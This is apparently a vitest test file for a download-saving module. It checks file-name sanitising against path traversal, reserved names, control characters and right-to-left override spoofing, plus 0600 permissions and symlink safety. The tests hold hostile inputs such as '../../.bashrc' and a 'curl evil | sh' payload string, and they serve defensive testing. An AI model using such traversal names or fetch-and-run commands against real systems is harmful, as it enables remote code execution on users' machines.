import { mkdtemp, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { safeFileName, saveDownload, saveOnceWhole } from './downloads';

describe('a stored file name made safe to create inside a folder', () => {
  test.each([
    ['photo.jpg', 'photo.jpg'],
    ['../../.bashrc', '.bashrc'],
    ['..\\..\\Windows\\win.ini', 'win.ini'],
    ['/etc/passwd', 'passwd'],
    ['..', 'file'],
    ['.', 'file'],
    ['', 'file'],
    ['dir/', 'file'],
    ['a\nb\u0007c.txt', 'a_b_c.txt'],
    ['red\u001b[31m\u009b2J.txt', 'red_[31m_2J.txt'],
    ['what?.txt', 'what_.txt'],
    ['trailing dots...', 'trailing dots'],
    ['CON', '_CON'],
    ['nul.txt', '_nul.txt'],
    ['Grüße 東京.txt', 'Grüße 東京.txt'],
    // Shown as "invoicehs.pdf" with the override kept: the name must read as what it is.
    ['invoice\u202Efdp.sh', 'invoice_fdp.sh'],
    ['a\u202Ab\u202Bc\u202Cd\u202De.txt', 'a_b_c_d_e.txt'],
    ['a\u2066b\u2067c\u2068d\u2069.txt', 'a_b_c_d_.txt'],
    // Right-to-left letters stay, not their invisible marks; a line separator is a line break.
    ['שלום \u200Fעולם\u061C.txt', 'שלום _עולם_.txt'],
    ['a\u2028b\u2029.txt', 'a_b_.txt'],
  ])('%j → %j', (name, safe) => {
    expect(safeFileName(name)).toBe(safe);
  });
});

describe('a saved download', () => {
  let folder: string;
  const told: string[] = [];
  const io = () => ({ cwd: folder, stderr: { write: (chunk: string | Uint8Array) => told.push(String(chunk)) } });
  const answer = (body: string) => new Response(body);
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'clipsync-downloads-'));
    told.length = 0;
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));

  const modeOf = async (path: string) => (await stat(path)).mode & 0o777;

  test('is created readable by the user alone (0600), whatever the umask allows', async () => {
    const path = await saveDownload(io(), '.', 'private.pdf', answer('%PDF'));
    expect(path).toBe(join(folder, 'private.pdf'));
    expect(await modeOf(path)).toBe(0o600);
    expect(await readFile(path, 'utf8')).toBe('%PDF');
  });

  test('beside an existing file takes a free name, 0600, and leaves that file, its content and mode, alone', async () => {
    await writeFile(join(folder, 'notes.txt'), 'mine', { mode: 0o644 });
    const path = await saveDownload(io(), '.', 'notes.txt', answer('theirs'));
    expect(path).toBe(join(folder, 'notes (1).txt'));
    expect(await modeOf(path)).toBe(0o600);
    expect(await readFile(join(folder, 'notes.txt'), 'utf8')).toBe('mine');
    expect(await modeOf(join(folder, 'notes.txt'))).toBe(0o644);
    expect(told.join('')).toContain('saved as notes (1).txt');
  });

  test('never writes through a symbolic link of the same name', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'clipsync-outside-'));
    try {
      await symlink(join(outside, 'target'), join(folder, '.bashrc'));
      const path = await saveDownload(io(), '.', '../../.bashrc', answer('curl evil | sh'));
      expect(path).toBe(join(folder, '.bashrc (1)'));
      expect(await readdir(outside)).toEqual([]);
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });

  test('saved once whole (a decrypted file) ends 0600 under its safe name, with no temporary file left', async () => {
    const { name, path } = await saveOnceWhole(io(), '.', async (output) => {
      await new Promise<void>((resolve, reject) => output.end('decrypted', () => resolve()).on('error', reject));
      return 'report\u202Efdp.exe';
    });
    expect(name).toBe('report\u202Efdp.exe');
    expect(path).toBe(join(folder, 'report_fdp.exe'));
    expect(await modeOf(path)).toBe(0o600);
    expect(await readdir(folder)).toEqual(['report_fdp.exe']);
  });
});
